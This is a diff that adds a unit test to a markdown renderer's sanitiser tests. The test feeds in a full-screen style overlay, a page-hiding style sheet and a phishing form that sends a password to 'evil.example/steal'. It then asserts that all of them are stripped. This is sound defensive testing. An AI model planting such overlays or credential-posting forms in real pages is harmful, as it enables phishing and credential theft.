@@ -16,6 +16,22 @@ describe('renderMarkdown (in a DOM of its own, as the prerenderer runs it)', () 
     expect(html).not.toMatch(/<script|onerror|javascript:/i);
   });
 
+  it('drops inline styles, style sheets and forms, which could overlay the page or phish (issue 20, finding 8)', () => {
+    const html = renderMarkdown(
+      '<p style="position:fixed;inset:0;z-index:9999">Notice</p>\n\n' +
+        '<style>body{display:none}</style>\n\n' +
+        '<form action="https://evil.example/steal"><input name="password" type="password">' +
+        '<textarea name="t"></textarea><select name="s"><option>a</option></select>' +
+        '<button formaction="https://evil.example">Log in</button></form>\n\n' +
+        '<div><span style="color:red">kept text</span></div>',
+    );
+    expect(html).toContain('Notice');
+    expect(html).toContain('kept text');
+    expect(html).not.toMatch(
+      /style|<form|<input|<textarea|<select|<option|<button|formaction|evil\.example/i,
+    );
+  });
+
   it('makes the CMS’s uploads absolute and lazy, and opens outside links apart', () => {
     const html = renderMarkdown(
       '![Lobby](/uploads/lobby.jpg)\n\n[Map](https://www.openstreetmap.org/) [Blogs](/en/blogs)',
